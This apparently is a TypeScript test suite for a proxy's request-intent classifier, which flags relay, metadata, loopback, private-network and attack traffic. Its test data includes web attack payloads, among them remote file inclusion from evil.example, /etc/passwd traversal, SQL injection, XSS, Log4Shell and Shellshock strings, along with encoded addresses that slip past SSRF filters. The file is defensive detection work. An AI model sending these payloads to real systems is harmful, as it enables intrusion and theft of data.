import assert from 'node:assert/strict';
import { suite, test } from 'node:test';
import fc from 'fast-check';
import { classifyIntent, nothingWanted, type Wanted } from '../../src/rules/intent.ts';
import { latin1 } from '../wire/arbitraries.ts';

const wanted = (host: string, port: number | null = 80, path = '/', body?: string): Wanted => ({
  host,
  port,
  path,
  text: '',
  ...(body === undefined ? {} : { body }),
});

suite('the intent', () => {
  for (const [intent, ...all] of [
    ['mail-relay', ...[25, 465, 587, 2525].map((port) => wanted('mail.example.com', port))],
    ['chat-relay', ...[6660, 6667, 6669, 6697, 7000].map((port) => wanted('irc.example.com', port))],
    [
      'metadata',
      ...[
        '169.254.169.254',
        '[fd00:ec2::254]',
        '[::ffff:169.254.169.254]',
        '100.100.100.200',
        'metadata.google.internal',
        'metadata.azure.com',
        'metadata',
        'instance-data',
        '168.63.129.16',
        '[64:ff9b::a9fe:a9fe]',
        '[64:ff9b:1::a9fe:a9fe]',
        '[2002:a9fe:a9fe::1]',
        '[::a9fe:a9fe]',
        '169.254.169.254.nip.io',
        '169-254-169-254.sslip.io',
        'x.a9fea9fe.nip.io',
      ].map((host) => wanted(host)),
    ],
    [
      'loopback',
      ...[
        '127.0.0.1',
        '127.9.9.9',
        '[::1]',
        'localhost',
        'a.localhost',
        '0.0.0.0',
        '127.1',
        '0x7f.1',
        '2130706433',
        '0177.0.0.1',
        'app.127.0.0.1.nip.io',
        '--1.sslip.io',
        'www.localtest.me',
      ].map((host) => wanted(host)),
    ],
    [
      'private-network',
      ...[
        '10.0.0.1',
        '192.168.1.1',
        '172.16.0.1',
        '[fd12::1]',
        '[fe80::1]',
        'printer.local',
        'db.internal',
        'router.lan',
        'www.10.0.0.1.nip.io',
        ...['a.intranet', 'a.corp', 'a.home.arpa', 'a.svc', 'a.cluster.local'],
        '[64:ff9b::a00:1]',
      ].map((host) => wanted(host)),
    ],
    ['remote-login', ...[22, 23, 3389, 5900].map((port) => wanted('www.example.com', port))],
    ['mail-access', ...[110, 143, 993, 995].map((port) => wanted('www.example.com', port))],
    ['socks-bind', { ...wanted('198.51.100.7'), protocol: 'SOCKS BIND' }],
    [
      'udp-relay',
      ...['SOCKS UDP ASSOCIATE', 'connect-udp', 'connect-udp-bind'].map((protocol) => ({
        ...wanted('198.51.100.7'),
        protocol,
      })),
    ],
    ['vpn-relay', { ...wanted('198.51.100.7'), protocol: 'connect-ip' }],
    [
      'proxy-judge',
      ...['ifconfig.io', 'wtfismyip.com', 'api.ipify.org', 'www.ip.sb'].map((host) => wanted(host)),
    ],
    [
      'proxy-judge',
      ...['/cdn-cgi/trace', '/generate_204', '/gen_204?x=1'].map((path) =>
        wanted('www.example.com', 80, path),
      ),
    ],
    [
      'third-party-attack',
      wanted('www.example.com', 80, '/index.php?mosConfig_absolute_path=http://www.example.org'),
      wanted(
        'www.example.com',
        80,
        '/',
        'option=com_content&GLOBALS=&mosConfig_absolute_path=http://www.example.org',
      ),
      wanted('www.example.com', 80, '/x?page=http://evil.example/shell.txt'),
      wanted('www.example.com', 80, '/x?f=..%2f..%2f..%2fetc%2fpasswd'),
      wanted('www.example.com', 80, '/x?id=1+union+select+1'),
      wanted('www.example.com', 80, '/x?q=%3Cscript%3E'),
      wanted('www.example.com', 80, '/', 'q=%3Cscript%3E'),
      ...[
        ...['_REQUEST[a]', '_SERVER[a]', 'allow_url_include', 'auto_prepend_file', '/etc/shadow', 'boot.ini'],
        ...['proc/self/environ', 'union+all+select', "'+or+1", 'sleep(1', 'benchmark(', 'xp_cmdshell'],
        ...['information_schema', 'onerror=', '${jndi:', '() { :;', 'wget+http:', 'curl+-', ';cat '],
        ...['base64_decode', 'eval(', 'system(', 'passthru(', 'shell_exec(', 'call_user_func'],
      ].map((text) => wanted('www.example.com', 80, `/x?a=${text}`)),
    ],
    [
      'proxy-judge',
      wanted('azenv.net'),
      wanted('www.example.com', 80, '/azenv.php'),
      wanted('api.ipify.org', 443),
      wanted('www.example.com', 80, '/cgi-bin/textenv.pl'),
    ],
    [
      'web',
      wanted('www.example.com'),
      wanted('www.example.com', 443),
      wanted('8.8.8.8'),
      wanted('notlocalhost'),
      wanted('www.example.com', 80, '/judgement'),
      nothingWanted,
    ],
  ] as const) {
    for (const one of all)
      test(`${JSON.stringify([one.host, one.port, one.path, one.body])}: ${intent}`, () =>
        assert.equal(classifyIntent(one), intent));
  }

  test('any text has an intent, and none makes the regular expressions backtrack for long', () => {
    fc.assert(
      fc.property(latin1, fc.option(fc.nat(65535)), latin1, latin1, (host, port, path, body) => {
        classifyIntent({ host, port, path, text: '', body });
      }),
      { numRuns: 2000 },
    );
    // The beginning of each pattern, repeated up to the bound of evidence.
    for (const piece of ['?a=http:', '../', "'+", 'union+', '%2e', '?[[[[=', '&a=php:&', ' () { ', 'curl+']) {
      classifyIntent({
        ...nothingWanted,
        path: piece.repeat(8192 / piece.length),
        body: piece.repeat(8192 / piece.length),
      });
    }
  });
});
